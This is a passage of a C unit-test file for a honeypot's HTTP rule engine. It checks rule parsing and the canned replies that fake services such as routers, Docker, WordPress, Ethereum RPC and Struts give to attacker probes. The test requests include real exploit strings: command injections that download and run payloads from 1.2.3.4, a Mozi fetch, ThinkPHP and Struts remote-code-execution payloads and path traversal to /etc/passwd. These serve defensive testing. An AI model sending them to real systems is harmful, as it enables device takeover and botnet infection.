/*
 * test_http_rules.c - unit tests for the HTTP response rules
 * (src/proto/http_rules.c, http_rules_wow.c, http_rulesdata.c).
 *
 * Covers: every parse error of the rule format with its NAME:LINE; the
 * shipped rule set (each rule answered for a real request built by hand,
 * since the view builder lives in another module); first match in file
 * order and negated conditions; every template ({{date}}, {{host}} and its
 * sanitising, {{server}}, {{path}}, {{random_hex:N}} stable and keyed,
 * {{jsonrpc_id}} for numbers, strings, batches and junk); a catastrophic
 * regex on a 64 KiB body that must give up quickly as "no match"; loading
 * from a file with a files directory; and the WOWHoneypot XML import
 * (order by mrrid, disabled rules, filename bodies stripped, default
 * Content-Type, header and body triggers, errors with line numbers).
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>
#include <cmocka.h>

#include "proto/http_parse.h"
#include "proto/http_rules.h"
#include "sensor.h"
#include "shell/persona.h"

/* ---- a hand-made request view --------------------------------------------- */

struct tview {
    struct hp_http_view v;
    struct hp_http_hdr hdrs[16];
    char store[70000];          /* decoded path, query and body */
    uint8_t npath[4096];        /* the path nginx looks up */
};

static int hexv(int c)
{
    if (c >= '0' && c <= '9')
        return c - '0';
    c |= 32;
    return c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

/* %XX-decode (and '+' -> ' ' when plus) into dst; returns the length. */
static size_t decode(char *dst, const char *s, size_t n, int plus)
{
    size_t k = 0;
    for (size_t i = 0; i < n; i++) {
        if (s[i] == '%' && i + 2 < n + 0 && hexv(s[i + 1]) >= 0 && hexv(s[i + 2]) >= 0) {
            dst[k++] = (char)(hexv(s[i + 1]) * 16 + hexv(s[i + 2]));
            i += 2;
        } else {
            dst[k++] = plus && s[i] == '+' ? ' ' : s[i];
        }
    }
    return k;
}

#define B(s, n) ((struct hp_bytes){ (const uint8_t *)(s), (n) })

/* headers: "Name: value\n" lines (static strings, the view points into them). */
static struct hp_http_view *mkview(struct tview *t, const char *method, const char *target, const char *headers,
                                   const char *body, size_t body_len, uint16_t port)
{
    memset(t, 0, sizeof(*t));
    struct hp_http_view *v = &t->v;
    v->method = B(method, strlen(method));
    v->target = B(target, strlen(target));
    const char *q = strchr(target, '?');
    size_t pl = q ? (size_t)(q - target) : strlen(target);
    v->path = B(target, pl);
    v->query = q ? B(q + 1, strlen(q + 1)) : B(NULL, 0);
    char *d = t->store;
    size_t n = decode(d, target, pl, 0);
    v->dpath = B(d, n);
    d += n;
    size_t npl = 0;
    if (pl < sizeof(t->npath) && hp_http_ngx_path((const uint8_t *)target, pl, t->npath, &npl))
        v->npath = B(t->npath, npl);
    if (q) {
        n = decode(d, q + 1, strlen(q + 1), 1);
        v->dquery = B(d, n);
        d += n;
    }
    v->version = B("HTTP/1.1", 8);
    size_t nh = 0;
    int form = 0;
    for (const char *h = headers; h && *h && nh < 16;) {
        const char *nl = strchr(h, '\n'), *colon = strchr(h, ':');
        size_t ll = nl ? (size_t)(nl - h) : strlen(h);
        assert_non_null(colon);
        const char *val = colon + 1;
        while (*val == ' ')
            val++;
        t->hdrs[nh].name = B(h, (size_t)(colon - h));
        t->hdrs[nh].value = B(val, (size_t)(h + ll - val));
        if (strncasecmp(h, "Content-Type: application/x-www-form-urlencoded", 47) == 0)
            form = 1;
        nh++;
        h += ll + (nl ? 1 : 0);
    }
    v->headers = t->hdrs;
    v->nheaders = nh;
    v->body = B(body, body ? body_len : 0);
    v->dbody = v->body;
    if (form && body) {
        n = decode(d, body, body_len, 1);
        v->dbody = B(d, n);
    }
    v->local_port = port;
    return v;
}

static struct hp_webrules *load_ok(const char *text)
{
    char err[512] = "";
    struct hp_webrules *r = hp_webrules_load_text(text, strlen(text), "t.rules", NULL, err, sizeof(err));
    if (!r)
        fail_msg("unexpected error: %s", err);
    return r;
}

static const char *match_id(const struct hp_webrules *r, const struct hp_http_view *v)
{
    const struct hp_webresp *resp = hp_webrules_match(r, v);
    return resp ? resp->id : "(none)";
}

/* Render to C strings (caller frees). */
static void render(const struct hp_webresp *resp, const struct hp_http_view *v, char **hdr, char **body)
{
    struct hp_buf h, b;
    hp_buf_init(&h, 1 << 20);
    hp_buf_init(&b, 1 << 20);
    hp_webresp_render(resp, v, "nginx", &h, &b);
    assert_true(hp_buf_ok(&h) && hp_buf_ok(&b));
    *hdr = strdup(hp_buf_cstr(&h));
    *body = strdup(hp_buf_cstr(&b));
    hp_buf_free(&h);
    hp_buf_free(&b);
}

/* ---- parse errors ------------------------------------------------------------ */

static void test_parse_errors(void **state)
{
    static const struct { const char *text, *expect; } cases[] = {
        { "status 200\n", "t.rules:1: 'status' outside a rule" },
        { "# c\n\nrule a\n  match path (\nend\n", "t.rules:4: invalid regex" },
        { "rule a\nend\nrule a\nend\n", "t.rules:3: duplicate rule id a" },
        { "rule a\n  status 200\n", "t.rules:1: rule a has no end" },
        { "rule a\nrule b\nend\n", "t.rules:2: rule inside rule a" },
        { "rule a\n  status 99\nend\n", "t.rules:2: status must be 100..599" },
        { "rule a\n  status 2000\nend\n", "t.rules:2: status must be 100..599" },
        { "rule a\n  frobnicate\nend\n", "t.rules:2: unknown directive 'frobnicate'" },
        { "rule a\n  match colour red\nend\n", "t.rules:2: unknown condition 'colour'" },
        { "rule a\n  match port 0\nend\n", "t.rules:2: invalid port '0'" },
        { "rule a\n  match port 70000\nend\n", "t.rules:2: invalid port '70000'" },
        { "rule a\n  match method G<T\nend\n", "t.rules:2: invalid method 'G<T'" },
        { "rule a\n  match path\nend\n", "t.rules:2: missing regex" },
        { "rule a\n  match header X-A\nend\n", "t.rules:2: missing regex" },
        { "rule a\n  header NoColon\nend\n", "t.rules:2: header must read" },
        { "rule a\n  body x\n  body y\nend\n", "t.rules:3: body given twice" },
        { "rule a\n\n  body <<EOT\nline\n", "t.rules:3: body <<EOT not terminated" },
        { "rule a\n  chomp\nend\n", "t.rules:2: chomp before body" },
        { "rule a\n  auth digest x\nend\n", "t.rules:2: auth must read" },
        { "rule a\n  file ../etc/passwd\nend\n", "t.rules:2: file name must not contain '..'" },
        { "rule a\n  file /etc/passwd\nend\n", "t.rules:2: invalid file name" },
        { "rule a\n  file missing.html\nend\n", "t.rules:2: cannot open" },
        { "rule a b\nend\n", "t.rules:1: invalid rule id" },
        { "rule a\nend x\n", "t.rules:2: junk after end" },
        { "rule a\n  tag ok b<d\nend\n", "t.rules:2: invalid tag 'b<d'" },
        { "rule a\n  body <<E\nx\nE\n  match path [z-a]\nend\n", "t.rules:5: invalid regex" },
        { "rule a\n  static yes\nend\n", "t.rules:2: static takes no argument" },
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char err[512] = "";
        struct hp_webrules *r = hp_webrules_load_text(cases[i].text, strlen(cases[i].text), "t.rules",
                                                      "/nonexistent", err, sizeof(err));
        if (r || strncmp(err, cases[i].expect, strlen(cases[i].expect)) != 0)
            fail_msg("case %zu: got '%s', want '%s'", i, r ? "(loaded)" : err, cases[i].expect);
    }
    /* A NUL byte in the text is refused, not silently cut. */
    char err[256] = "";
    assert_null(hp_webrules_load_text("rule a\n\0end\n", 12, "t.rules", NULL, err, sizeof(err)));
    assert_string_equal(err, "t.rules:1: NUL byte in rule text");
}

static void test_parse_features(void **state)
{
    struct hp_webrules *r = load_ok(
        "# comment\r\n"
        "rule one\r\n"
        "    match method GET POST\r\n"
        "\tmatch port 80 8080\r\n"
        "  status 201\r\n"
        "  header X-A: 1\r\n"
        "  header EXT:\r\n"
        "  body <<EOT\r\n"
        "  keep {indent}\r\n"
        "\r\n"
        "  EOT\r\n"
        "  auth basic My Realm\r\n"
        "  tag a b\r\n"
        "  tag c\r\n"
        "end\r\n"
        "rule two\n  body single line\n  chomp\nend\n"
        "rule three\nend");                       /* last line without newline */
    assert_int_equal(hp_webrules_count(r), 3);
    struct tview t;
    const struct hp_webresp *resp = hp_webrules_match(r, mkview(&t, "GET", "/", "", NULL, 0, 8080));
    assert_non_null(resp);
    assert_string_equal(resp->id, "one");
    assert_int_equal(resp->status, 201);
    assert_string_equal(resp->headers, "X-A: 1\r\nEXT:\r\n");
    assert_int_equal(resp->body_len, strlen("  keep {indent}\n\n"));
    assert_memory_equal(resp->body, "  keep {indent}\n\n", resp->body_len);
    assert_string_equal(resp->auth_realm, "My Realm");
    assert_string_equal(resp->tags, "a b c");
    /* Wrong port, then wrong method: falls to the next rules. */
    resp = hp_webrules_match(r, mkview(&t, "GET", "/", "", NULL, 0, 81));
    assert_string_equal(resp->id, "two");
    assert_int_equal(resp->status, 200);
    assert_null(resp->auth_realm);
    assert_string_equal(resp->tags, "");
    assert_memory_equal(resp->body, "single line", resp->body_len);
    assert_int_equal(resp->body_len, 11);
    resp = hp_webrules_match(hp_webrules_count(r) ? r : NULL, mkview(&t, "get", "/", "", NULL, 0, 80));
    assert_string_equal(resp->id, "two");
    hp_webrules_free(r);

    /* Empty text: an empty set that matches nothing. */
    r = load_ok("");
    assert_null(hp_webrules_match(r, mkview(&t, "GET", "/", "", NULL, 0, 80)));
    hp_webrules_free(r);
}

static void test_first_match_and_negation(void **state)
{
    struct hp_webrules *r = load_ok(
        "rule admin-noauth\n  match path ^/admin\n  match !header Authorization ^Basic \n  status 401\nend\n"
        "rule admin\n  match path ^/admin\nend\n"
        "rule q\n  match query (?i)cmd=\\S+\nend\n"
        "rule ua\n  match header user-agent ^curl/\nend\n"
        "rule form\n  match method POST\n  match body user=root&pass=a b\nend\n"
        "rule raw\n  match rawbody pass=a\\+b\nend\n"
        "rule tgt\n  match target %2e%2e\nend\n"
        "rule all\n  match headers (?m)^X-Probe: 1$\nend\n"
        "rule any\nend\n"
        "rule never\nend\n");
    struct tview t;
    assert_string_equal(match_id(r, mkview(&t, "GET", "/admin/x", "Host: h\n", NULL, 0, 80)), "admin-noauth");
    assert_string_equal(match_id(r, mkview(&t, "GET", "/admin/x", "Authorization: Basic YTpi\n", NULL, 0, 80)),
                        "admin");
    assert_string_equal(match_id(r, mkview(&t, "GET", "/x?a=1&CMD=id", "", NULL, 0, 80)), "q");
    assert_string_equal(match_id(r, mkview(&t, "GET", "/x?cmd=", "", NULL, 0, 80)), "any");
    assert_string_equal(match_id(r, mkview(&t, "GET", "/", "User-Agent: curl/8.0\n", NULL, 0, 80)), "ua");
    assert_string_equal(match_id(r, mkview(&t, "GET", "/", "User-Agent: Wget\n", NULL, 0, 80)), "any");
    const char *fb = "user=root&pass=a+b";
    assert_string_equal(match_id(r, mkview(&t, "POST", "/login",
                                           "Content-Type: application/x-www-form-urlencoded\n",
                                           fb, strlen(fb), 80)), "form");
    assert_string_equal(match_id(r, mkview(&t, "PUT", "/login", "", fb, strlen(fb), 80)), "raw");
    assert_string_equal(match_id(r, mkview(&t, "GET", "/%2e%2e/etc/passwd", "", NULL, 0, 80)), "tgt");
    assert_string_equal(match_id(r, mkview(&t, "GET", "/", "A: b\nX-Probe: 1\n", NULL, 0, 80)), "all");
    /* rawbody never matches an empty body, even with an empty-matching regex. */
    hp_webrules_free(r);
    r = load_ok("rule raw\n  match rawbody .*\nend\nrule body\n  match body ^$\nend\n");
    assert_string_equal(match_id(r, mkview(&t, "GET", "/", "", NULL, 0, 80)), "body");
    hp_webrules_free(r);
}

/* ---- the shipped rules --------------------------------------------------------- */

struct shipped_case {
    const char *method, *target, *headers, *body;
    uint16_t port;
    const char *id;
    int status;
    const char *in_body;        /* substring of the rendered body (or NULL) */
    const char *server;         /* the service's Server header (NULL: none) */
};

static const struct shipped_case shipped[] = {
    { "POST", "/", "Content-Type: application/json\n",
      "{\"jsonrpc\":\"2.0\",\"method\":\"eth_accounts\",\"params\":[],\"id\":1}", 8545,
      "eth-accounts", 200, "{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":[\"0x" },
    { "POST", "/", "Content-Type: application/json\n",
      "{\"id\":\"a7\",\"jsonrpc\":\"2.0\",\"method\":\"eth_blockNumber\",\"params\":[]}", 8545,
      "eth-blocknumber", 200, "\"id\":\"a7\",\"result\":\"0x" },
    { "POST", "/", "Content-Type: application/json\n",
      "{\"jsonrpc\":\"2.0\",\"method\":\"net_version\",\"params\":[],\"id\":67}", 8545,
      "eth-net-version", 200, "{\"jsonrpc\":\"2.0\",\"id\":67,\"result\":\"1\"}" },
    { "POST", "/", "Content-Type: application/json\n",
      "{\"jsonrpc\":\"2.0\",\"method\":\"eth_getBalance\",\"params\":[\"0x407d73d8a49eeb85d32cf465507dd71d507100c1\",\"latest\"],\"id\":2}",
      8545, "eth-getbalance", 200, "\"id\":2,\"result\":\"0x" },
    { "POST", "/", "Content-Type: application/json\n",
      "{\"jsonrpc\":\"2.0\",\"method\":\"personal_unlockAccount\",\"params\":[\"0x1\",\"pw\",600],\"id\":3}",
      8545, "eth-unlock", 200, "\"id\":3,\"result\":true}" },
    { "POST", "/", "Content-Type: application/json\n",
      "{\"jsonrpc\":\"2.0\",\"method\":\"eth_sendTransaction\",\"params\":[{\"from\":\"0x1\",\"to\":\"0x2\",\"value\":\"0x1\"}],\"id\":4}",
      8545, "eth-sendtx", 200, "\"id\":4,\"result\":\"0x" },
    { "POST", "/", "Content-Type: application/json\n",
      "{\"jsonrpc\":\"2.0\",\"method\":\"web3_clientVersion\",\"params\":[],\"id\":5}", 8545,
      "eth-clientversion", 200, "Geth/v1.10." },
    { "POST", "/", "Content-Type: application/json\n",
      "{\"jsonrpc\":\"2.0\",\"method\":\"admin_peers\",\"params\":[],\"id\":9}", 8545,
      "eth-other", 200, "-32601" },
    { "POST", "/", "", "{\"jsonrpc\":\"2.0\",\"method\":\"eth_coinbase\",\"id\":10}", 8545, "eth-coinbase", 200,
      "\"id\":10,\"result\":\"0x" },
    { "POST", "/", "", "{\"jsonrpc\":\"2.0\",\"method\":\"personal_listAccounts\",\"id\":11}", 8545, "eth-accounts", 200,
      NULL },
    { "POST", "/", "", "{\"jsonrpc\":\"2.0\",\"method\":\"eth_chainId\",\"id\":12}", 8545, "eth-chainid", 200,
      "\"result\":\"0x1\"" },
    { "POST", "/", "", "{\"jsonrpc\":\"2.0\",\"method\":\"eth_syncing\",\"id\":13}", 8545, "eth-syncing", 200,
      "\"result\":false" },
    { "POST", "/", "", "{\"jsonrpc\":\"2.0\",\"method\":\"eth_gasPrice\",\"id\":14}", 8545, "eth-gasprice", 200, NULL },
    { "GET", "/.git/HEAD", "", NULL, 80, "git-head", 200, "ref: refs/heads/master" },
    { "GET", "/login.action", "", NULL, 8080, "struts-action", 200, NULL },
    { "GET", "/wp-login.php", "Host: blog.example\n", NULL, 80, "wp-login", 200,
      "action=\"http://blog.example/wp-login.php\"" },
    { "POST", "/wordpress/wp-login.php", "Content-Type: application/x-www-form-urlencoded\n",
      "log=admin&pwd=123456&wp-submit=Log+In", 80, "wp-login-post", 200, "login_error" },
    { "POST", "/xmlrpc.php", "Content-Type: text/xml\n",
      "<?xml version=\"1.0\"?><methodCall><methodName>system.listMethods</methodName><params></params></methodCall>",
      80, "wp-xmlrpc-listmethods", 200, "wp.getUsersBlogs" },
    { "POST", "/xmlrpc.php", "Content-Type: text/xml\n",
      "<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>admin</value></param>"
      "<param><value>pass</value></param></params></methodCall>", 80, "wp-xmlrpc-getusersblogs", 200,
      "Incorrect username or password." },
    { "POST", "/xmlrpc.php", "", "<methodCall><methodName>pingback.ping</methodName></methodCall>", 80,
      "wp-xmlrpc-post", 200, "-32601" },
    { "GET", "/xmlrpc.php", "", NULL, 80, "wp-xmlrpc-get", 405, "XML-RPC server accepts POST requests only." },
    { "GET", "/phpmyadmin/", "", NULL, 80, "phpmyadmin", 200, "pma_username" },
    { "GET", "/phpMyAdmin/index.php", "", NULL, 80, "phpmyadmin", 200, "Welcome to" },
    { "GET", "/pma/", "", NULL, 80, "phpmyadmin", 200, NULL },
    { "GET", "/admin/phpmyadmin/", "", NULL, 80, "phpmyadmin", 200, NULL },
    { "GET", "/phpmyadmin", "Host: 10.0.0.5:8080\n", NULL, 80, "phpmyadmin-redirect", 301, "301 Moved" },
    { "GET", "/manager/html", "", NULL, 8080, "tomcat-manager-401", 401, "401 Unauthorized" },
    { "GET", "/manager/html", "Authorization: Basic dG9tY2F0OnRvbWNhdA==\n", NULL, 8080, "tomcat-manager", 200,
      "Tomcat Web Application Manager" },
    { "GET", "/host-manager/html", "", NULL, 8080, "tomcat-manager-401", 401, NULL },
    { "POST", "/wls-wsat/CoordinatorPortType", "Content-Type: text/xml\n",
      "<soapenv:Envelope><soapenv:Header><work:WorkContext><java><object class=\"java.lang.ProcessBuilder\">"
      "</object></java></work:WorkContext></soapenv:Header></soapenv:Envelope>", 7001,
      "weblogic-wsat-post", 500, "<faultstring>" },
    { "GET", "/wls-wsat/CoordinatorPortType", "", NULL, 7001, "weblogic-wsat-get", 200, "CoordinatorPortTypeImpl" },
    { "POST", "/ctrlt/DeviceUpgrade_1", "Content-Type: text/xml\n",
      "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 1.2.3.4 -l /tmp/x -r /x)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>",
      37215, "huawei-hg532-401", 401, NULL },
    { "POST", "/ctrlt/DeviceUpgrade_1",
      "Authorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", nonce=\"88645cefb1f9ede0e336e3569d75ee30\", uri=\"/ctrlt/DeviceUpgrade_1\", response=\"3612f843a42db38f48f59d2a3597e19c\", algorithm=\"MD5\", qop=\"auth\", nc=00000001, cnonce=\"248d1a2560100669\"\n",
      "<u:Upgrade><NewStatusURL>$(busybox wget)</NewStatusURL></u:Upgrade>", 37215, "huawei-hg532", 200,
      "UpgradeResponse" },
    /* XiongMai uc-httpd serves ../ request-targets (CVE-2017-7577) */
    { "GET", "../../../../etc/passwd", "", NULL, 80, "xiongmai-uc-httpd-passwd", 200, "root:absxcfbgXtb3o:0:0:" },
    { "GET", "../../../../mnt/mtd/Config/Account1", "", NULL, 80, "xiongmai-uc-httpd-traversal", 404, "404 Not Found" },
    /* the Docker Engine API on 2375 ({{persona:KEY}}: the SSH shell's Debian box) */
    { "GET", "/_ping", "", NULL, 2375, "docker-ping", 200, "OK" },
    { "HEAD", "/v1.41/_ping", "", NULL, 2375, "docker-ping", 200, NULL },
    { "GET", "/v1.24/version", "", NULL, 2375, "docker-version", 200, "\"KernelVersion\":\"6.1.0-" },
    { "GET", "/info", "", NULL, 2375, "docker-info", 200, "\"OperatingSystem\":\"Debian GNU/Linux 12 (bookworm)\"" },
    { "GET", "/v1.41/containers/json?all=1", "", NULL, 2375, "docker-list", 200, "[]" },
    { "POST", "/v1.41/images/create?fromImage=alpine&tag=latest", "", "", 2375, "docker-image-pull", 200,
      "Status: Downloaded newer image" },
    { "POST", "/v1.41/containers/create", "Content-Type: application/json\n",
      "{\"Image\":\"alpine\",\"Cmd\":[\"sh\",\"-c\",\"id\"]}", 2375, "docker-container-create", 201, "{\"Id\":\"" },
    { "POST", "/containers/0a1b2c3d4e5f/exec", "Content-Type: application/json\n", "{\"Cmd\":[\"id\"]}", 2375,
      "docker-exec-create", 201, "{\"Id\":\"" },
    { "GET", "/v1.41/containers/0a1b2c3d4e5f/json", "", NULL, 2375, "docker-container-inspect", 200, "\"Running\":true" },
    { "POST", "/v1.41/containers/0a1b2c3d4e5f/wait", "", "", 2375, "docker-container-wait", 200, "\"StatusCode\":0" },
    { "POST", "/v1.41/exec/0a1b2c3d4e5f/start", "", "{}", 2375, "docker-stream", 200, NULL },
    { "POST", "/v1.41/containers/0a1b2c3d4e5f/start", "", "", 2375, "docker-no-content", 204, NULL },
    { "DELETE", "/containers/0a1b2c3d4e5f", "", NULL, 2375, "docker-no-content", 204, NULL },
    { "GET", "/v1.41/swarm", "", NULL, 2375, "docker-not-found", 404, "page not found" },
    /* Hadoop YARN's ResourceManager REST API on 8088 */
    { "GET", "/ws/v1/cluster/info", "", NULL, 8088, "yarn-cluster-info", 200, "\"hadoopVersion\":\"3.3.6\"" },
    { "POST", "/ws/v1/cluster/apps/new-application", "", "", 8088, "yarn-new-application", 200,
      "{\"application-id\":\"application_17" },
    { "POST", "/ws/v1/cluster/apps", "Content-Type: application/json\n",
      "{\"am-container-spec\":{\"commands\":{\"command\":\"id\"}}}", 8088, "yarn-submit-application", 202, NULL },
    { "GET", "/", "", NULL, 8088, "yarn-root", 302, NULL },
    { "GET", "/conf", "", NULL, 8088, "yarn-not-found", 404, "HTTP ERROR 404 Not Found" },
    /* the Kubernetes kubelet API on 10250 */
    { "GET", "/pods", "", NULL, 10250, "kubelet-pods", 200, "{\"kind\":\"PodList\"" },
    { "POST", "/run/default/web-1/nginx", "Content-Type: application/x-www-form-urlencoded\n", "cmd=id", 10250, "kubelet-run", 200, NULL },
    { "GET", "/healthz", "", NULL, 10250, "kubelet-healthz", 200, "ok" },
    { "GET", "/metrics/cadvisor", "", NULL, 10250, "kubelet-not-found", 404, "404 page not found" },
    /* the SSDP service's UPnP device (src/proto/ssdp.c, {{upnp:KEY}} facts) */
    { "GET", "/rootDesc.xml", "", NULL, 80, "upnp-rootdesc", 200, "InternetGatewayDevice:1</deviceType><friendlyName>" },
    { "GET", "/description.xml", "", NULL, 80, "upnp-camera-desc", 200, "<deviceType>urn:schemas-upnp-org:device:Basic:1" },
    { "POST", "/ctl/IPConn", "SOAPAction: \"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\"\n", "<x/>",
      80, "upnp-soap-addportmapping", 200, "AddPortMappingResponse" },
    { "POST", "/ctl/IPConn", "SOAPAction: \"urn:schemas-upnp-org:service:WANIPConnection:1#DeletePortMapping\"\n", "<x/>",
      80, "upnp-soap-deleteportmapping", 200, "DeletePortMappingResponse" },
    { "POST", "/ctl/IPConn", "SOAPAction: \"urn:schemas-upnp-org:service:WANIPConnection:1#GetExternalIPAddress\"\n",
      "<x/>", 80, "upnp-soap-externalip", 200, "<NewExternalIPAddress>100." },
    { "POST", "/ctl/IPConn", "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#GetStatusInfo\n", "<x/>",
      80, "upnp-soap-statusinfo", 200, "Connected" },
    { "POST", "/ctl/IPConn", "SOAPAction: \"urn:schemas-upnp-org:service:WANIPConnection:1#GetGenericPortMappingEntry\"\n",
      "<x/>", 80, "upnp-soap-portmapping-entry", 500, "<errorCode>713</errorCode>" },
    { "POST", "/ctl/L3F", "SOAPAction: \"urn:schemas-upnp-org:service:Layer3Forwarding:1#SetDefaultConnectionService\"\n",
      "<x/>", 80, "upnp-soap-other", 500, "Invalid Action" },
    { "GET", "/picsdesc.xml", "Host: 1.2.3.4:52869\n", NULL, 52869, "realtek-picsdesc", 200,
      "<URLBase>http://1.2.3.4:52869</URLBase>" },
    { "GET", "/picsdesc.xml", "", NULL, 8080, "realtek-picsdesc", 200, "Realtek" },
    { "POST", "/picsdesc.xml",
      "Content-Type: text/xml; charset=\"utf-8\"\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\n",
      "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:AddPortMapping><NewInternalClient>`cd /var; wget http://1.2.3.4/x`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>",
      52869, "realtek-upnp-soap", 200, "AddPortMappingResponse" },
    { "POST", "/wanipcn.xml", "SOAPAction: \"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\"\n",
      "<x/>", 52869, "realtek-upnp-soap", 200, NULL },
    { "POST", "/GponForm/diag_Form?images/", "Content-Type: application/x-www-form-urlencoded\n",
      "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://1.2.3.4/x`;sh+x&ipv=0",
      8080, "gpon-diag-form", 200, "diag.html" },
    { "GET", "/diag.html?images/", "", NULL, 8080, "gpon-diag-page", 200, "diag_Form" },
    { "GET", "/setup.cgi?next_file=index.htm&todo=debug", "", NULL, 8080, "netgear-setup-cgi", 200, NULL },
    { "GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
      "", NULL, 80, "netgear-setup-syscmd", 200, NULL },
    { "POST", "/HNAP1/", "SOAPAction: \"http://purenetworks.com/HNAP1/`cd /tmp && wget http://1.2.3.4/x`\"\n",
      "", 8080, "dlink-hnap", 200, "GetDeviceSettingsResponse" },
    { "GET", "/HNAP1/", "", NULL, 80, "dlink-hnap", 200, "DIR-645" },
    { "POST", "/command.php", "Content-Type: application/x-www-form-urlencoded\n", "cmd=wget+http://1.2.3.4/x",
      8080, "dlink-command-php", 200, NULL },
    { "GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
      "", NULL, 80, "thinkphp-rce", 500, "ThinkPHP" },
    { "GET", "/index.php?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=system&vars%5B1%5D%5B%5D=id",
      "", NULL, 80, "thinkphp-rce-exec", 200, NULL },
    { "GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=uname",
      "", NULL, 80, "thinkphp-rce-exec", 200, NULL },
    { "GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1",
      "", NULL, 80, "thinkphp-rce", 500, NULL },
    { "GET", "/?s=index/\\think\\Container/invokefunction&function=call_user_func_array", "", NULL, 80,
      "thinkphp-rce", 500, NULL },
    { "POST", "/index.php?s=captcha", "Content-Type: application/x-www-form-urlencoded\n",
      "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id", 80, "thinkphp-method-rce", 500, NULL },
    { "GET", "/struts2-showcase/index.action",
      "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}\n",
      NULL, 8080, "struts-s2-045-cmd", 200, NULL },
    { "GET", "/struts2-showcase/index.action",
      "Content-Type: %{(#_='multipart/form-data').(#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']"
      ".addHeader('X-Test',233*233))}\n", NULL, 8080, "struts-s2-045", 200, "Struts" },
    { "POST", "/login.action", "Content-Type: ${#context['xwork.MethodAccessor.denyMethodExecution']=false}\n", "",
      8080, "struts-s2-045", 200, NULL },
    { "GET", "/.env", "Host: shop.example.com\n", NULL, 80, "dotenv", 200, "APP_KEY=base64:" },
    { "GET", "/laravel/.env", "", NULL, 80, "dotenv", 200, "DB_PASSWORD=" },
    { "GET", "/.git/config", "", NULL, 80, "git-config", 200, "[remote \"origin\"]" },
    { "GET", "/server-status", "", NULL, 80, "server-status", 200, "Apache Server Status" },
    { "GET", "/server-status?auto", "", NULL, 80, "server-status-auto", 200, "Scoreboard: " },
    { "GET", "/actuator/health", "", NULL, 8080, "actuator-health", 200, "{\"status\":\"UP\"}" },
    { "GET", "/actuator", "", NULL, 8080, "actuator-index", 200, "_links" },
    { "GET", "/robots.txt", "", NULL, 80, "robots-txt", 404, "404 Not Found" },
    { "GET", "/favicon.ico", "", NULL, 80, "favicon", 404, "nginx" },
    { "GET", "/robots.txt", "", NULL, 80, "robots-txt-debian", 404, "404 Not Found", "nginx/1.22.1" },
    { "GET", "/favicon.ico", "", NULL, 80, "favicon-debian", 404, "nginx", "nginx/1.18.0 (Ubuntu)" },
    { "GET", "/robots.txt", "", NULL, 80, "robots-txt", 404, "404 Not Found", "nginx/1.26.0" },
    { "GET", "/", "", NULL, 80, "default", 200, "Welcome to nginx!" },
    { "GET", "/cgi-bin/luci", "", NULL, 80, "not-found", 404, "<h1>404 Not Found</h1>" },
    /* per-port personalities: what usually listens there, not nginx */
    { "GET", "/", "", NULL, 9200, "elasticsearch-banner", 200, "You Know, for Search" },
    { "GET", "/_cat/indices", "", NULL, 9200, "elasticsearch-cat-indices", 200, "green open" },
    { "GET", "/_cluster/health", "", NULL, 9200, "elasticsearch-health", 200, "\"status\":\"yellow\"" },
    { "POST", "/logs/_search", "Content-Type: application/json\n", "{}", 9200, "elasticsearch-search", 200,
      "\"hits\":[]" },
    { "GET", "/secret", "", NULL, 9200, "elasticsearch-other", 404, "index_not_found_exception" },
    { "GET", "/", "", NULL, 7001, "weblogic-not-found", 404, "Error 404--Not Found" },
    { "GET", "/", "", NULL, 7547, "tr069-connection-request", 401, "401 Unauthorized" },
    { "GET", "/", "", NULL, 8545, "geth-health", 200, NULL },
    { "OPTIONS", "/", "", NULL, 8545, "geth-options", 200, NULL },
    { "PUT", "/", "", "", 8545, "geth-method-not-allowed", 405, "method not allowed" },
    { "POST", "/", "Content-Type: text/plain\n", "x", 8545, "geth-content-type", 415, "only application/json" },
    { "GET", "/", "", NULL, 9000, "minio-access-denied", 403, "<Code>AccessDenied</Code>" },
    { "GET", "/", "", NULL, 37215, "upnp-sdk-not-found-huawei", 404, "<h1>404 Not Found</h1>" },
    { "GET", "/", "", NULL, 52869, "upnp-sdk-not-found-realtek", 404, "<h1>404 Not Found</h1>" },
    { "GET", "/cgi-bin/luci", "", NULL, 81, "goahead-camera-401", 401, "Access Error: Unauthorized" },
    { "GET", "/", "Authorization: Basic YWRtaW46YWRtaW4=\n", NULL, 10081, "goahead-camera", 200, "IPCAM" },
    { "GET", "/", "", NULL, 60001, "jaws-dvr", 200, "login.cgi" },
    { "GET", "/shell?cd+/tmp;wget+http://1.2.3.4/jaws;sh+/tmp/jaws", "", NULL, 60001, "jaws-dvr-shell", 200, NULL },
    { "GET", "/shell?echo+x", "", NULL, 8080, "not-found", 404, NULL },
